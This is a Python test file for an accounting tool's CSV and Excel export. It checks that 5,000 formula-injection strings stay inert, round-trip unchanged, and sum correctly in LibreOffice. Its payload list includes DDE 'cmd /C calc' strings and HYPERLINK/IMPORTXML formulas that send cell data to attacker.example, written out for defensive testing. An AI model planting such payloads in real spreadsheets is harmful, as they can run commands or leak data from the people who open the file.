"""Hostile texts stay inert through CSV and workbooks and come back as they were; LibreOffice adds up every number."""

from __future__ import annotations

import csv
import io
import random
from decimal import Decimal

import openpyxl
import pytest

from openpbc.kernel.problems import UserError
from openpbc.kernel.sheets import Kind
from openpbc.ui import exports, tables
from openpbc.ui.exports import Sheet
from openpbc.ui.figures import Figure, Style
from openpbc.ui.workbooks import FormSheet, Formula, Line, Look, form_bytes, read_workbook
from openpbc.ui.workbooks.writing import LONGEST_TEXT
from tests.integration.workbooks import office

pytestmark = pytest.mark.one_database

COUNT = 5_000
CSV_FILTER = "CSV:44,34,76,1,,0,false,true,false"
_STARTS = [*"=+-@|%;,'\"", "\t", "\r", "\n", "\r\n", " =", "\u00a0=", "\ufeff=", "\u200b@", "\u202e=", "\u2066+"]
_STARTS += ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207a", "\u208c", "''=", "'=", "<r>", "\x01=", "\x1f+"]
_BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://attacker.example/?x="&A1,"open me")',
    'IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
    'DDE("cmd","/C calc","x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "2-3+4",
    "WEBSERVICE(A1)",
    "_x000D__x0041_",
    "</t></si><f>1+1</f>",
    "]]>&amp;<!ENTITY x>",
    "-5",
    "1e9",
    "01234",
    "TRUE",
    "#REF!",
    "2008-04-01",
    "\u202egpj.exe",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "e\u0301 \U0001f4b7 \U00020000",
    "a\rb\nc\r\nd\te",
    "\x00\x07\x0b\x1b\x7f\x9f\ufffe\uffff",
    "x" * 500,
    "",
]
_ENDS = ["", " ", "\n", "</r>", "'", '"', "\t", "_x000A_", ";=1+1", ",=1+1", "\u2028=1+1", "x" * 32_000]


def hostile_texts() -> list[str]:
    """Give 5,000 different texts: every start with every body, and endings by chance."""
    chance = random.Random(2008)
    found = {start + body: None for start in _STARTS for body in _BODIES}
    while len(found) < COUNT:
        text = chance.choice(_STARTS) + chance.choice(_BODIES) + chance.choice(_ENDS[:-1])
        found[text + chr(chance.randrange(0x20, 0x2FFF)) * chance.randrange(3)] = None
    longest = [start + _ENDS[-1] for start in ("=", "@", "<r>")]
    return [*list(found)[: COUNT - len(longest)], *longest]


@pytest.fixture(scope="module")
def texts() -> list[str]:
    return hostile_texts()


@pytest.fixture(scope="module")
def amounts() -> list[int]:
    """Pence of both signs, as many as texts."""
    chance = random.Random(2009)
    return [chance.choice((-1, 1)) * chance.randrange(10 ** chance.randrange(1, 12)) for _ in range(COUNT)]


@pytest.fixture(scope="module")
def sheet(texts: list[str], amounts: list[int]) -> Sheet:
    columns = [
        tables.text("Text"),
        tables.number("Pounds", "£"),
        tables.number("Thousands", "£000"),
        tables.text("Too"),
    ]
    rows = [
        [text, Figure(pence, Style.PENCE), Figure(pence, Style.THOUSANDS), text]
        for text, pence in zip(texts, amounts, strict=True)
    ]
    return Sheet(tables.table("hostile", "=1+1", columns, rows), (("=fact", "@SUM(A1)"),))


def test_there_are_five_thousand_texts(texts: list[str]):
    assert len(set(texts)) == len(texts) == COUNT


def test_csv_is_inert_and_comes_back_identical(sheet: Sheet, texts: list[str], amounts: list[int]):
    body = exports.csv_bytes(sheet).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(body, newline="")))
    rows = lines[lines.index([]) + 2 :]
    assert all(not cell.startswith(exports.FORMULA_STARTS) for row in lines for cell in [*row[:1], *row[3:]])
    assert [exports.original(row[0]) for row in rows] == texts
    assert [exports.original(row[3]) for row in rows] == texts
    assert [Decimal(row[1]) for row in rows] == [Decimal(pence) / 100 for pence in amounts]
    assert [Decimal(row[2]) for row in rows] == [Decimal(pence) / 100_000 for pence in amounts]


def test_workbook_is_inert_and_comes_back_identical(sheet: Sheet, texts: list[str], amounts: list[int]):
    body = exports.workbook_bytes([sheet])
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(body)).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    (found,) = read_workbook(body, "hostile.xlsx").sheets
    rows = found.rows[-COUNT:]
    assert [row.at(0).text for row in rows] == texts
    assert {row.at(0).kind for row in rows} == {Kind.TEXT}
    assert {row.at(1).kind for row in rows} == {row.at(2).kind for row in rows} == {Kind.NUMBER}
    assert [row.at(1).number for row in rows] == [Decimal(pence) / 100 for pence in amounts]
    assert [row.at(2).number for row in rows] == [Decimal(pence) / 100_000 for pence in amounts]


def test_libreoffice_sums_the_csv_to_the_penny(sheet: Sheet, amounts: list[int], tmp_path):
    saved = office.converted(exports.csv_bytes(sheet), "csv", tmp_path, read_as=CSV_FILTER)
    book = openpyxl.load_workbook(io.BytesIO(saved))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    total = sum(round(row[1].value * 100) for row in list(book.active.iter_rows())[-COUNT:])
    assert total == sum(amounts)


def test_libreoffice_sums_the_workbook_to_the_penny(sheet: Sheet, texts: list[str], amounts: list[int], tmp_path):
    """Its own SUM over our cells is our total, and it counts a number in each and a formula in none."""
    lines = [Line(("Text", "Pounds"), Look.HEAD)]
    lines += [Line((text, Figure(p, Style.PENCE))) for text, p in zip(texts, amounts, strict=True)]
    last = COUNT + 1
    sums = [
        Formula(f"SUM(Rows!B2:B{last})", 0),
        Formula(f"COUNT(Rows!B2:B{last})", 0),
        Formula(f"SUMPRODUCT(_xlfn.ISFORMULA(Rows!A2:A{last})*1)", 9),
    ]
    book = form_bytes("Sums", [FormSheet("Rows", tuple(lines)), FormSheet("Sums", (Line(sums),))])
    saved = openpyxl.load_workbook(io.BytesIO(office.converted(book, "xlsx", tmp_path)), data_only=True)
    total, numbers, formulas = (cell.value for cell in next(saved["Sums"].iter_rows()))
    assert (round(total * 100), numbers, formulas) == (sum(amounts), COUNT, 0)


def test_a_text_that_no_cell_holds_is_refused_and_not_cut():
    long = tables.table("t", "T", [tables.text("a")], [["x" * (LONGEST_TEXT + 1)]])
    with pytest.raises(UserError, match=r"longer than the 32,767 .* CSV"):
        exports.workbook_bytes([Sheet(long)])
    assert b"x" * (LONGEST_TEXT + 1) in exports.csv_bytes(Sheet(long))
